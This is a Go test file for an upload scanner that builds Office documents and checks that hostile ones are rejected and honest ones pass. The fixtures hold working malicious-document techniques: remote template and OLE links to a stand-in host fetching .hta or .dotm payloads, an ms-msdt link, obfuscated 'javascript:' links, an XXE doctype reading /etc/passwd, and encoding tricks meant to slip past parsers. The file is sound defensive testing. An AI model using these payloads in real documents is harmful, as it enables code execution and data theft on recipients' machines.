package attachment

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	. "website/internal/enquiry/attachment/attachmenttest"
)

// element is one tag of a list, to be spelled in all ways that XML allows.
type element struct {
	name       string
	attributes [][2]string
}

func relationElement(kind, target, mode string) element {
	e := element{"Relationship", [][2]string{{"Id", "rId7"}, {"Type", Relations + kind}, {"Target", target}}}
	if mode != "" {
		e.attributes = append(e.attributes, [2]string{"TargetMode", mode})
	}
	return e
}

func escape(value string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;", "'", "&apos;").Replace(value)
}

// write spells an element with a quote, a gap between attributes and a way to write values.
func (e element) write(quote, gap string, value func(string) string) string {
	out := "<" + e.name
	for _, attribute := range e.attributes {
		out += gap + attribute[0] + "=" + quote + value(attribute[1]) + quote
	}
	return out + "/>"
}

// references writes every character of a value as a number.
func references(format string) func(string) string {
	return func(value string) string {
		var out strings.Builder
		for _, c := range value {
			fmt.Fprintf(&out, format, c)
		}
		return out.String()
	}
}

// mixed writes every third character as a number.
func mixed(value string) string {
	var out strings.Builder
	for i, c := range value {
		if i%3 == 0 {
			fmt.Fprintf(&out, "&#x%X;", c)
		} else {
			out.WriteString(escape(string(c)))
		}
	}
	return out.String()
}

func (e element) reversed() element {
	turned := element{name: e.name}
	for i := len(e.attributes) - 1; i >= 0; i-- {
		turned.attributes = append(turned.attributes, e.attributes[i])
	}
	return turned
}

// spellings are all ways but the plain one to say the same in UTF-8.
var spellings = map[string]func(element) string{
	"single quotes":              func(e element) string { return e.write(`'`, " ", escape) },
	"decimal references":         func(e element) string { return e.write(`"`, " ", references("&#%d;")) },
	"hexadecimal references":     func(e element) string { return e.write(`'`, " ", references("&#x%x;")) },
	"references with zeros":      func(e element) string { return e.write(`"`, " ", references("&#x%06X;")) },
	"some references":            func(e element) string { return e.write(`"`, " ", mixed) },
	"lines and tabs":             func(e element) string { return e.write(`"`, "\r\n\t ", escape) },
	"reversed order":             func(e element) string { return e.reversed().write(`"`, " ", escape) },
	"reversed with references":   func(e element) string { return e.reversed().write(`'`, "\n", mixed) },
	"blanks around equals signs": func(e element) string { return strings.ReplaceAll(e.write(`"`, " ", escape), `="`, " =\t\"") },
	"an end tag":                 func(e element) string { return strings.Replace(e.write(`"`, " ", escape), "/>", "></"+e.name+">", 1) },
	"a comment before":           func(e element) string { return "<!-- harmless --><?note x?>" + e.write(`"`, " ", escape) },
	"text before":                func(e element) string { return "<![CDATA[<Relationship/>]]>" + e.write(`"`, " ", escape) },
	"a bracket in an attribute": func(e element) string {
		return element{e.name, append([][2]string{{"Note", "a>b/>"}}, e.attributes...)}.write(`"`, " ", escape)
	},
	"a prefix": func(e element) string {
		return element{"p:" + e.name, append([][2]string{{"xmlns:p", "http://schemas.openxmlformats.org/package/2006/relationships"}}, e.attributes...)}.write(`"`, " ", escape)
	},
	"blanks in the values": func(e element) string {
		return e.write(`"`, " ", func(value string) string { return " " + escape(value) + "\n" })
	},
}

// marked puts the mark of UTF-8 before a part.
func marked(p Part) Part {
	p.Content = "\ufeff" + p.Content
	return p
}

func TestHostileRelationsInEverySpelling(t *testing.T) {
	hostile := map[string]element{
		"a macro project":               relationElement("vbaProject", "harmless.xml", ""),
		"data of a macro project":       relationElement("wordVbaData", "harmless.xml", ""),
		"a control":                     relationElement("control", "harmless.xml", ""),
		"a control's data":              relationElement("activeXControlBinary", "harmless.bin", ""),
		"a macro sheet":                 relationElement("xlMacrosheet", "sheet9.xml", ""),
		"an international macro sheet":  relationElement("xlIntlMacrosheet", "sheet9.xml", ""),
		"a dialog":                      relationElement("dialogsheet", "sheet9.xml", ""),
		"another format":                relationElement("aFChunk", "page.dat", ""),
		"an add-in":                     relationElement("webextensiontaskpanes", "pane.xml", ""),
		"a ribbon with orders":          relationElement("ui/extensibility", "ribbon.xml", ""),
		"a template from the web":       relationElement("attachedTemplate", "https://boese.example/x.dotm", "External"),
		"a template from a share":       relationElement("attachedTemplate", `\\boese.example\x\x.dotm`, "External"),
		"a template from a share's URL": relationElement("attachedTemplate", "file://boese.example/x/x.dotm", "External"),
		"a template, slashes encoded":   relationElement("attachedTemplate", "file:///%5C%5Cboese.example%5Cx.dotm", "External"),
		"an object from the web":        relationElement("oleObject", "http://boese.example/x.hta", "External"),
		"an object with a moniker":      relationElement("oleObject", "mhtml:http://boese.example/x!x-usc:http://boese.example/x", "External"),
		"a frame":                       relationElement("frame", "http://boese.example/", "External"),
		"a part of a document":          relationElement("subDocument", `\\boese.example\x.docx`, "External"),
		"a picture on a share":          relationElement("image", `\\boese.example\x.png`, "External"),
		"a picture on a share's URL":    relationElement("image", "file://boese.example/x.png", "External"),
		"a source of data":              relationElement("mailMergeSource", "file:///C:/x.udl", "External"),
		"a workbook on the web":         relationElement("externalLinkPath", "https://boese.example/x.xlsm", "External"),
		"a link that runs script":       relationElement("hyperlink", "JavaScript:alert(1)", "External"),
		"a link with gaps in its name":  relationElement("hyperlink", "java\tscript :alert(1)", "External"),
		"a link with a control in it":   relationElement("hyperlink", "java\u0081script:alert(1)", "External"),
		"a link that starts a tool":     relationElement("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),
		"a mode that lies":              relationElement("oleObject", "http://boese.example/x.hta", "Internal"),
		"a mode that is missing":        relationElement("attachedTemplate", "http://boese.example/x.dotm", ""),
		"a share without a mode":        relationElement("attachedTemplate", `\\boese.example\x.dotm`, ""),
		"a share in disguise":           relationElement("attachedTemplate", "%5C%5Cboese.example%5Cx.dotm", ""),
		"a template beside the letter":  relationElement("attachedTemplate", "x.dotm", "External"),
	}
	var uploads []upload
	for title, e := range hostile {
		uploads = append(uploads, upload{title, "a.docx", DOCX(Rels("word/_rels/document.xml.rels", e.write(`"`, " ", escape))), Macro})
	}
	// How something is spelled and where it stands is read before anybody knows what it is.
	for _, title := range []string{"a macro project", "a link that runs script"} {
		for how, spell := range spellings {
			uploads = append(uploads, upload{title + ", " + how, "a.docx", DOCX(Rels("word/_rels/document.xml.rels", spell(hostile[title]))), Macro})
		}
	}
	macro := hostile["a macro project"].write(`"`, " ", escape)
	strict := strings.Replace(macro, "http://schemas.openxmlformats.org/officeDocument/2006", "http://purl.oclc.org/ooxml/officeDocument", 1)
	uploads = append(uploads,
		upload{"in the strict edition", "a.docx", DOCX(Rels("word/_rels/document.xml.rels", strict)), Macro},
		upload{"in a workbook", "a.xlsx", XLSX(Rels("xl/_rels/workbook.xml.rels", macro)), Macro},
		upload{"of a header", "a.docx", DOCX(Rels("word/_rels/header3.xml.rels", macro)), Macro},
		upload{"in a list of capitals", "a.docx", DOCX(Rels("WORD/_RELS/DOCUMENT.XML.RELS", macro)), Macro},
		upload{"in a list of another name", "a.docx", DOCX(Rels("word/other.xml", macro)), Macro},
		upload{"in a list of another name behind a mark", "a.docx", DOCX(marked(Rels("word/other.bin", macro))), Macro},
		upload{"behind an honest one", "a.docx", DOCX(Rels("word/_rels/document.xml.rels", Relation("styles", "styles.xml", "")+macro)), Macro},
	)
	judge(t, uploads)
}

func TestHonestRelationsInEverySpelling(t *testing.T) {
	link := relationElement("hyperlink", "https://www.firma.example/?a=1&b=oleObject", "External")
	var uploads []upload
	for how, spell := range spellings {
		uploads = append(uploads, upload{how, "a.docx", DOCX(Rels("word/_rels/document.xml.rels", spell(link))), ""})
	}
	for title, e := range map[string]element{
		"a link":                    link,
		"a link to a mailbox":       relationElement("hyperlink", "mailto:info@firma.example", "External"),
		"a link to a share":         relationElement("hyperlink", `file:///\\server\Pläne\Süd.pdf`, "External"),
		"styles":                    relationElement("styles", "styles.xml", ""),
		"the writer's own template": relationElement("attachedTemplate", `file:///C:\Users\x\AppData\Roaming\Microsoft\Templates\Brief.dotx`, "External"),
		"a picture on the old web":  relationElement("image", "http://www.firma.example/logo.png", "External"),
		"a picture on a drive":      relationElement("image", "file:///C:/Bilder/logo.png", "External"),
		"a picture beside it":       relationElement("image", "Bilder/logo.png", "External"),
		"a picture on the web":      relationElement("image", "https://www.firma.example/logo.png", "External"),
		"another workbook":          relationElement("externalLinkPath", `file:///\\server\Kalkulation\2026.xlsx`, "External"),
	} {
		uploads = append(uploads, upload{title, "a.docx", DOCX(Rels("word/_rels/document.xml.rels", e.write(`"`, " ", escape))), ""})
	}
	judge(t, uploads)
}

func TestHostileTypesInEverySpelling(t *testing.T) {
	const macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
	override := func(kind string) element {
		return element{"Override", [][2]string{{"PartName", "/word/theme/harmless.xml"}, {"ContentType", kind}}}
	}
	byDefault := element{"Default", [][2]string{{"Extension", "dat"}, {"ContentType", macros}}}.write(`'`, " ", escape)
	uploads := []upload{
		{"for an extension", "a.docx", DOCXChanged(Types("word/document.xml", WordType, byDefault)), Macro},
		{"in a workbook", "a.xlsx", XLSXChanged(Types("xl/workbook.xml", SheetType, byDefault)), Macro},
		{"of the document itself", "a.docx", DOCXChanged(Types("word/document.xml", macros, "")), Macro},
	}
	for how, spell := range spellings {
		uploads = append(uploads, upload{how, "a.docx", DOCXChanged(Types("word/document.xml", WordType, spell(override(macros)))), Macro})
	}
	for _, kind := range []string{
		macros, "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
		"application/vnd.ms-office.vbaProject", "application/vnd.ms-word.vbaData+xml", "application/vnd.ms-office.activeX+xml",
		"application/vnd.ms-excel.macrosheet+xml", "APPLICATION/VND.MS-OFFICE.VBAPROJECT", "application/vnd.ms-office.webextension+xml",
	} {
		uploads = append(uploads, upload{kind, "a.docx", DOCXChanged(Types("word/document.xml", WordType, override(kind).write(`"`, " ", escape))), Macro})
	}
	judge(t, uploads)
}

func TestOtherEncodingsAreRefused(t *testing.T) {
	list := RelsStart + Relation("oleObject", "http://boese.example/x", "External") + RelsEnd
	wide := func(text string, big bool) string {
		var out []byte
		for _, unit := range utf16.Encode([]rune(text)) {
			if big {
				out = append(out, byte(unit>>8), byte(unit))
			} else {
				out = append(out, byte(unit), byte(unit>>8))
			}
		}
		return string(out)
	}
	widest := func(text string) string {
		var out []byte
		for _, c := range text {
			out = append(out, 0, 0, 0, byte(c))
		}
		return string(out)
	}
	ebcdic := strings.NewReplacer("<", "\x4c", "?", "\x6f", "x", "\xa7", "m", "\x94", "l", "\x93", " ", "\x40").Replace(`<?xml ?>`)
	declare := func(encoding string) string { return `<?xml version="1.0" encoding=` + encoding + `?>` }
	var uploads []upload
	for title, content := range map[string]string{
		"UTF-16 of little ends":               "\xff\xfe" + wide(declare(`"UTF-16"`)+list, false),
		"UTF-16 of big ends":                  "\xfe\xff" + wide(declare(`"UTF-16"`)+list, true),
		"UTF-16 without a mark":               wide(declare(`"UTF-16"`)+list, false),
		"UTF-16 of big ends without a mark":   wide(declare(`"UTF-16"`)+list, true),
		"UTF-16 that says UTF-8":              "\xff\xfe" + wide(declare(`"UTF-8"`)+list, false),
		"UTF-16 that says nothing":            "\xff\xfe" + wide(list, false),
		"UTF-32":                              widest(declare(`"UTF-32"`) + list),
		"EBCDIC":                              ebcdic + list,
		"UTF-8 that says UTF-16":              declare(`"UTF-16"`) + list,
		"UTF-7":                               declare(`"utf-7"`) + list,
		"UTF-7 with blanks":                   `<?xml version="1.0" encoding = "utf-7"?>` + list,
		"UTF-7 in single quotes":              declare(`'utf-7'`) + list,
		"ISO 8859-1":                          declare(`"ISO-8859-1"`) + list,
		"Windows":                             declare(`"windows-1252"`) + list,
		"an empty name":                       declare(`""`) + list,
		"XML 1.1":                             `<?xml version="1.1"?>` + list,
		"bytes that are no UTF-8":             RelsStart + "\xc0\xbc" + RelsEnd,
		"two declarations":                    declare(`"utf-8"`) + declare(`"utf-7"`) + list,
		"an encoding before the version":      `<?xml encoding="utf-7" version="1.0"?>` + list,
		"a NUL":                               RelsStart + "\x00" + RelsEnd,
		"no element at all":                   declare(`"UTF-8"`),
		"nothing":                             "",
		"a list that does not end":            RelsStart,
		"tags that do not fit":                RelsStart + "</Types>",
		"an attribute twice":                  RelsStart + `<Relationship Id="a" Type="` + Relations + `hyperlink" Type="` + Relations + `oleObject" Target="x"/>` + RelsEnd,
		"an attribute twice under a prefix":   RelsStart + `<Relationship xmlns:p="p" Id="a" Type="` + Relations + `hyperlink" p:Type="` + Relations + `oleObject" Target="x"/>` + RelsEnd,
		"an entity that nobody has explained": RelsStart + "&boese;" + RelsEnd,
		"another list under its name":         TypesStart + TypesEnd + "x",
	} {
		uploads = append(uploads,
			upload{"relations in " + title, "a.docx", DOCX(Part{Name: "word/_rels/document.xml.rels", Content: content}), Content})
		if title == "UTF-16 of little ends" || title == "UTF-7" {
			uploads = append(uploads,
				upload{"types in " + title, "a.docx", DOCXChanged(Part{Name: "[Content_Types].xml", Content: content}), Content},
				upload{"a text in " + title, "a.docx", DOCXChanged(Part{Name: "word/document.xml", Content: content}), Content},
				upload{"a part without an extension in " + title, "a.docx",
					DOCXChanged(Types("word/document.xml", WordType, `<Override PartName="/word/x" ContentType="application/xml"/>`), Part{Name: "word/x", Content: content}), Content})
		}
	}
	// The mark of UTF-8 is no other encoding: programs for .NET write it.
	marked := "\xef\xbb\xbf" + Declaration
	uploads = append(uploads,
		upload{"a hostile list with the mark of UTF-8", "a.docx", DOCX(Part{Name: "word/_rels/document.xml.rels", Content: marked + list}), Macro},
		upload{"an honest list with the mark of UTF-8", "a.docx", DOCX(Part{Name: "word/_rels/document.xml.rels", Content: marked + RelsStart + RelsEnd}), ""},
		upload{"a declaration in capitals and single quotes", "a.docx",
			DOCX(Part{Name: "word/_rels/document.xml.rels", Content: `<?xml version='1.0' encoding='UTF-8' standalone='no' ?>` + RelsStart + RelsEnd}), ""},
	)
	for _, text := range []string{
		`<!DOCTYPE x SYSTEM "http://boese.example/x.dtd">`, `<!DOCTYPE x [<!ENTITY a "aaaa">]>`, `<!doctype x>`,
		`<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>`, `<!-- x --><!DOCTYPE x>`,
	} {
		uploads = append(uploads, upload{text, "a.docx", DOCXChanged(Part{Name: "word/document.xml", Content: text + list}), Bomb})
	}
	for _, part := range []string{"word/_rels/document.xml.rels", "word/document.xml", "[Content_Types].xml", "customXml/item1.xml", "word/drawing.vml", "word/x"} {
		uploads = append(uploads, upload{"a document type in " + part, "a.docx", DOCXChanged(Part{Name: part, Content: `<!DOCTYPE x>` + list}), Bomb})
	}
	judge(t, uploads)
}
